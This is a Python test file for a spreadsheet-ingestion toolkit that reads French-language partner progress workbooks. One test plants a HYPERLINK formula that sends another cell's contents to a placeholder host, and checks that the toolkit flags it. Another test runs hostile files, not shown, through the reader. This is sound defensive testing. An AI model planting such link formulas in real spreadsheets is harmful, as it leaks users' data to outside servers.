"""pull: returned copies become typed cells, whatever partners did to them."""

from __future__ import annotations

import datetime as dt
import gc
import hashlib
import os
import shutil
from pathlib import Path

import openpyxl
import pytest

from tests.conftest import fill
from toolkit import api
from toolkit.initiative import Initiative
from toolkit.metadata import METADATA_TAB
from toolkit.submission import Submission, completion

PROGRESS, BACKBONE = "Canevas des progrès", "Infrastructure de soutien"


def cell(submission: Submission, worksheet: str, row: str, column: str) -> dict[str, object]:
    c = submission.cells
    found = c[(c["worksheet"] == worksheet) & (c["row"] == row) & (c["column"] == column)]
    assert len(found) == 1, (worksheet, row, column)
    return dict(found.iloc[0])


def only(result: api.PullResult) -> Submission:
    assert not result.errors, result.errors
    assert len(result.submissions) == 1
    return result.submissions[0]


def test_values_are_typed_per_column(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    path = fill(
        copies["cdc-hochelaga"],
        {
            (PROGRESS, "B5"): "  Démarrage de la table\nen 2019 ",
            (PROGRESS, "C5"): dt.datetime(2026, 11, 2),
            (PROGRESS, "C6"): "2 novembre 2026",
            (PROGRESS, "C7"): "02/11/2026",
            (PROGRESS, "C8"): "pas encore",
            (BACKBONE, "B5"): "Isabelle Côté",
            (BACKBONE, "B14"): "Oui, avec la CDC.",
        },
    )
    s = only(api.pull([path], initiative))
    assert s.partner_id == "cdc-hochelaga" and s.kit_id == "collective_impact" and s.role == "partner"
    assert cell(s, "progress_canvas", "overview", "activities")["value"] == "Démarrage de la table\nen 2019"
    assert cell(s, "progress_canvas", "overview", "date")["value"] == dt.date(2026, 11, 2)
    assert cell(s, "progress_canvas", "research_data", "date")["value"] == dt.date(2026, 11, 2)
    assert cell(s, "progress_canvas", "partner_involvement", "date")["value"] == dt.date(2026, 11, 2)
    bad = cell(s, "progress_canvas", "achievements", "date")
    assert (bad["value"], bad["text"], bad["problem"]) == (None, "pas encore", "not_a_date")
    assert cell(s, "backbone_infrastructure", "vision_strategy", "who")["location"] == f"{BACKBONE}!B5"
    assert cell(s, "backbone_infrastructure", "pooling", "answer")["value"] == "Oui, avec la CDC."
    assert s.notes == () and s.unmapped == ()


def test_ambiguous_date_in_english_is_reported_not_guessed(initiative: Initiative, tmp_path: Path) -> None:
    english = Initiative(**{**initiative.__dict__, "language": "en"})
    path = api.generate(english, tmp_path, partners=["ecole-baril"], blank=False)[0].path
    fill(path, {("Progress canvas", "C5"): "03/04/2026", ("Progress canvas", "C6"): "25/04/2026"})
    s = only(api.pull([path], english))
    assert cell(s, "progress_canvas", "overview", "date")["problem"] == "ambiguous_date"
    assert cell(s, "progress_canvas", "research_data", "date")["value"] == dt.date(2026, 4, 25)


def test_completion(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    # 6 required rows x 2 columns + 6 rows x 4 columns = 36 required cells; fill 9 of them
    cells: dict[tuple[str, str], object] = {(PROGRESS, f"B{r}"): "fait" for r in range(5, 11)}
    cells |= {(BACKBONE, f"C{r}"): "force" for r in range(5, 8)}
    s = only(api.pull([fill(copies["ecole-baril"], cells)], initiative))
    assert completion(s) == pytest.approx(9 / 36)


def test_renamed_moved_tab_and_inserted_row_still_map(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    wb = openpyxl.load_workbook(copies["ecole-baril"])
    ws = wb[BACKBONE]
    ws.insert_rows(7)  # between shared_measurement and aligned_activities
    ws["A7"] = "Notre propre rôle"
    ws["C7"] = "Une idée à garder"
    ws["C8"] = "Forces pour les activités"  # aligned_activities moved from row 7 to 8
    ws.title = "Infra 2026"
    wb.move_sheet("Infra 2026", offset=-2)
    wb.save(copies["ecole-baril"])
    s = only(api.pull([copies["ecole-baril"]], initiative))
    assert (
        cell(s, "backbone_infrastructure", "aligned_activities", "strengths")["value"]
        == "Forces pour les activités"
    )
    codes = [n.code for n in s.notes]
    assert codes == ["tab_renamed", "tab_moved", "rows_moved"] or sorted(codes) == sorted(
        ["tab_renamed", "tab_moved", "tab_moved", "rows_moved"]
    )
    assert ("Infra 2026!A7", "Notre propre rôle") in s.unmapped
    assert ("Infra 2026!C7", "Une idée à garder") in s.unmapped


def test_lost_metadata_tab_falls_back_to_properties(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    wb = openpyxl.load_workbook(copies["ciusss-est"])
    del wb[METADATA_TAB]
    wb[BACKBONE]["B6"] = "Mamadou Diallo"
    wb.save(copies["ciusss-est"])
    s = only(api.pull([copies["ciusss-est"]], initiative))
    assert s.partner_id == "ciusss-est"
    assert cell(s, "backbone_infrastructure", "shared_measurement", "who")["value"] == "Mamadou Diallo"


def test_pasted_into_a_new_workbook(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    """No metadata at all: tabs found by their headers, partner by the file name."""
    source = openpyxl.load_workbook(copies["bibliotheque"])
    pasted = openpyxl.Workbook()
    target = pasted.active
    assert target is not None
    target.title = "Feuil1"
    for row in source[BACKBONE].iter_rows(min_row=4, max_row=10, values_only=True):
        target.append(list(row))
    target["C2"] = "Lecture et littératie"  # the header is now row 1, vision_strategy row 2
    path = tmp_path / "bibliotheque-reponses.xlsx"
    pasted.save(path)
    s = only(api.pull([path], initiative))
    assert s.partner_id == "bibliotheque"
    assert (
        cell(s, "backbone_infrastructure", "vision_strategy", "strengths")["value"] == "Lecture et littératie"
    )
    codes = {n.code for n in s.notes}
    assert {"metadata_missing", "tab_found_by_content", "partner_from_filename", "worksheet_missing"} <= codes


def test_formula_where_a_value_belongs(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    wb = openpyxl.load_workbook(copies["ecole-baril"])
    wb[PROGRESS]["B5"] = '=HYPERLINK("http://example.invalid/?"&B6)'
    wb[PROGRESS]["B6"] = "=1+1"
    wb[PROGRESS]["B6"].data_type = "s"  # text that merely starts with "=" is fine
    wb.save(copies["ecole-baril"])
    s = only(api.pull([copies["ecole-baril"]], initiative))
    assert cell(s, "progress_canvas", "overview", "activities")["problem"] == "formula"
    typed = cell(s, "progress_canvas", "research_data", "activities")
    assert (typed["value"], typed["problem"]) == ("=1+1", None)


def test_copy_of_another_initiative_or_template(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    other = Initiative(**{**initiative.__dict__, "id": "autre-table"})
    foreign = api.generate(other, tmp_path / "other", partners=["cdc-hochelaga"], blank=False)[0].path
    unrelated = tmp_path / "budget.xlsx"
    wb = openpyxl.Workbook()
    wb.active.append(["Poste", "Montant"])  # type: ignore[union-attr]
    wb.save(unrelated)
    result = api.pull([foreign, unrelated, copies["cdc-hochelaga"]], initiative)
    assert [(Path(e.source).name, e.code) for e in result.errors] == [
        ("autre-table_cdc-hochelaga.xlsx", "foreign_initiative"),
        ("budget.xlsx", "foreign_template"),
    ]
    assert result.errors[0].message == "copie d'une autre initiative"  # no English tail in French
    assert result.errors[0].detail == "copy of 'autre-table'"
    assert [s.partner_id for s in result.submissions] == ["cdc-hochelaga"]


def test_folder_skips_lock_files_and_reports_strays(
    initiative: Initiative, copies: dict[str | None, Path]
) -> None:
    folder = copies["cdc-hochelaga"].parent
    (folder / "~$hochelaga-ensemble_cdc-hochelaga.xlsx").write_bytes(b"lock")
    (folder / ".~lock.hochelaga-ensemble_ecole-baril.xlsx#").write_text("lock")
    (folder / "notes.txt").write_text("à relancer")
    result = api.pull([folder], initiative)
    assert len(result.submissions) == 9
    assert [(Path(e.source).name, e.code) for e in result.errors] == [("notes.txt", "not_spreadsheet")]


def test_without_config_the_copy_explains_itself(copies: dict[str | None, Path]) -> None:
    s = only(api.pull([copies["cuisine-collective"]]))
    assert (s.partner_id, s.kit_id, s.language) == ("cuisine-collective", "collective_impact", "fr")


HOSTILE = Path(__file__).parent / "data" / "hostile"


def test_hostile_files_are_errors_and_the_rest_is_processed(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path
) -> None:
    from tests.data import make_hostile

    folder = tmp_path / "inbox"
    shutil.copytree(HOSTILE, folder)
    make_hostile.build_large(folder, rows=150_000)
    shutil.copy(copies["cdc-hochelaga"], folder / "zz_good.xlsx")
    before = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}
    result = api.pull([folder], initiative)
    codes = {Path(e.source).name: e.code for e in result.errors}
    assert codes == {**make_hostile.SMALL_EXPECTED, **make_hostile.LARGE_EXPECTED}
    assert [s.partner_id for s in result.submissions] == ["cdc-hochelaga"]
    assert all(e.message for e in result.errors)
    assert before == {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}


@pytest.mark.parametrize("files, held", [(1, None), (3, None), (256, 1)])
def test_files_read_in_batches_give_what_each_file_gives_alone(
    initiative: Initiative,
    copies: dict[str | None, Path],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    files: int,
    held: int | None,
) -> None:
    """Files are read a batch at a time, step by step: a bad file anywhere in a batch (cut by files or
    by bytes held) is reported as when read alone, and the others are read whole."""
    import importlib

    from tests.data.make_hostile import SMALL_EXPECTED as HOSTILE_CODES
    from toolkit.sources import expand

    pull_module = importlib.import_module("toolkit.pull")
    folder = tmp_path / "inbox"
    shutil.copytree(HOSTILE, folder)
    fill(copies["cdc-hochelaga"], {(BACKBONE, "B5"): "Mamadou Diallo"})
    for n, source in enumerate(sorted(p for p in copies.values() if p is not None)):
        shutil.copy(source, folder / f"{'celmx'[n % 5]}_{source.name}")  # good copies among the bad ones
    alone = [api.pull([source], initiative) for source, _kind in expand([folder])]
    monkeypatch.setattr(pull_module, "BATCH_FILES", files)
    if held is not None:
        monkeypatch.setattr(pull_module, "BATCH_BYTES", held)
    together = api.pull([folder], initiative)
    assert [s.source for s in together.submissions] == [s.source for r in alone for s in r.submissions]
    assert [s.fingerprint for s in together.submissions] == [
        s.fingerprint for r in alone for s in r.submissions
    ]
    assert together.errors == tuple(e for r in alone for e in r.errors)
    assert len(together.submissions) == len(copies) and len(together.errors) == len(HOSTILE_CODES)


def test_a_batch_holds_a_bounded_number_of_bytes(
    initiative: Initiative, copies: dict[str | None, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A batch keeps its files' bytes and decompressed parts until their values are read: it is cut
    once they pass BATCH_BYTES, so many large copies never sit in memory together."""
    import importlib

    pull_module = importlib.import_module("toolkit.pull")
    reading_type = pull_module._Reading
    load_and_screen, read_values = reading_type.load_and_screen, reading_type.read_values
    holding: dict[str, int] = {}
    most = [0]

    def screened(self: object, keep: bool) -> None:
        load_and_screen(self, keep)
        holding[self.source] = self.held()  # type: ignore[attr-defined]
        most[0] = max(most[0], sum(holding.values()))

    def values_read(self: object) -> None:
        read_values(self)
        assert self.held() == 0  # type: ignore[attr-defined]
        del holding[self.source]  # type: ignore[attr-defined]

    monkeypatch.setattr(reading_type, "load_and_screen", screened)
    monkeypatch.setattr(reading_type, "read_values", values_read)
    one = pull_module._Reading(str(copies["cdc-hochelaga"]))
    load_and_screen(one, False)
    monkeypatch.setattr(pull_module, "BATCH_BYTES", 2 * one.held())
    result = api.pull([copies[None].parent], initiative)
    assert len(result.submissions) == len(copies) > 4 and not holding
    assert 2 * one.held() <= most[0] < 4 * one.held()  # two copies' worth, and the one that passed it


def test_the_garbage_of_a_batch_goes_with_it(
    initiative: Initiative, copies: dict[str | None, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The garbage collector rests while a batch is read (it rescanned every copy read before): a
    reference cycle that reading a file makes is still freed once its batch is read, not left for the
    end of the pull, and the collector is back on after it."""
    import importlib
    import weakref

    class Cycle:
        itself: object = None

    pull_module = importlib.import_module("toolkit.pull")
    reading_type = pull_module._Reading
    load_and_screen, read_values = reading_type.load_and_screen, reading_type.read_values
    made: list[weakref.ref[Cycle]] = []
    loaded: list[object] = []
    alive_when_a_batch_starts: list[int] = []

    def screened(self: object, keep: bool) -> None:
        if len(loaded) % 2 == 0:  # the first file of a batch of two
            alive_when_a_batch_starts.append(sum(ref() is not None for ref in made))
        loaded.append(self)
        load_and_screen(self, keep)

    def values_read(self: object) -> None:
        read_values(self)
        garbage = Cycle()
        garbage.itself = garbage
        made.append(weakref.ref(garbage))

    monkeypatch.setattr(reading_type, "load_and_screen", screened)
    monkeypatch.setattr(reading_type, "read_values", values_read)
    monkeypatch.setattr(pull_module, "BATCH_FILES", 2)
    assert gc.isenabled()
    result = api.pull([copies[None].parent], initiative, jobs=1)
    assert len(result.submissions) == len(made) == len(copies) > 4
    assert alive_when_a_batch_starts == [0] * len(alive_when_a_batch_starts)
    assert len(alive_when_a_batch_starts) == (len(copies) + 1) // 2
    assert gc.isenabled()


def test_modified_time_is_the_files(initiative: Initiative, copies: dict[str | None, Path]) -> None:
    os.utime(copies["cdc-hochelaga"], (1_790_000_000, 1_790_000_000))
    s = only(api.pull([copies["cdc-hochelaga"]], initiative))
    assert s.modified == dt.datetime.fromtimestamp(1_790_000_000, dt.UTC)


def test_many_copies_are_read_in_parallel_with_the_same_result(
    initiative: Initiative, copies: dict[str | None, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import importlib

    pull_module = importlib.import_module("toolkit.pull")  # the module (toolkit.pull is also the function)
    fill(copies["cdc-hochelaga"], {(BACKBONE, "B5"): "Mamadou Diallo", (PROGRESS, "C5"): "2 novembre 2026"})
    (copies[None].parent / "notes.txt").write_text("à relancer", encoding="utf-8")
    folder = copies[None].parent
    sequential = api.pull([folder], initiative)
    monkeypatch.setattr(pull_module, "PARALLEL_FROM", 2)
    parallel = api.pull([folder], initiative)
    assert [s.source for s in parallel.submissions] == [s.source for s in sequential.submissions]
    assert [s.fingerprint for s in parallel.submissions] == [s.fingerprint for s in sequential.submissions]
    assert parallel.errors == sequential.errors and len(parallel.errors) == 1


def test_cli_table_says_what_was_recovered(copies: dict[str | None, Path]) -> None:
    from click.testing import CliRunner

    from tests.conftest import EXAMPLE
    from toolkit.cli import main

    wb = openpyxl.load_workbook(copies["ecole-baril"])
    wb[PROGRESS].title = "Progrès"
    wb.save(copies["ecole-baril"])
    result = CliRunner().invoke(main, ["pull", str(copies["ecole-baril"]), "--config", str(EXAMPLE)])
    assert result.exit_code == 0
    assert result.stdout.splitlines()[-2:] == [
        "Ce que la lecture a remarqué",
        "• École primaire Baril : onglet « Canevas des progrès » renommé « Progrès »",
    ]
